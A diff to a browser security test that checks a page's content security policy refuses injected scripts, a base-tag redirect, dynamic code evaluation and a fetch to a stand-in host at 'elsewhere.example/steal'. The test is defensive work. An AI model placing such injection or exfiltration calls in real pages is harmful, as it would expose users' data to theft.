@@ -30,12 +30,11 @@ test('a script that found its way into the page does not run, and nothing is fet
     base.href = 'https://elsewhere.example/'
     document.body.append(place, inline, foreign, base)
     document.querySelector<HTMLAnchorElement>('#link')!.click()
-    try {
-      new Function("(window.ran ??= []).push('function')")()
-    } catch {}
+    // What the browser is told to run from outside may do more; what runs later may not.
+    setTimeout(() => new Function("(window.ran ??= []).push('function')")())
     void fetch('https://elsewhere.example/steal').catch(() => {})
   })
-  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(6)
+  await expect.poll(() => refused.length, { timeout: 30_000 }).toBeGreaterThanOrEqual(9)
   expect(await page.evaluate(() => [window.ran ?? [], document.baseURI.startsWith(location.origin)])).toEqual([[], true])
   await page.context().close()
 })
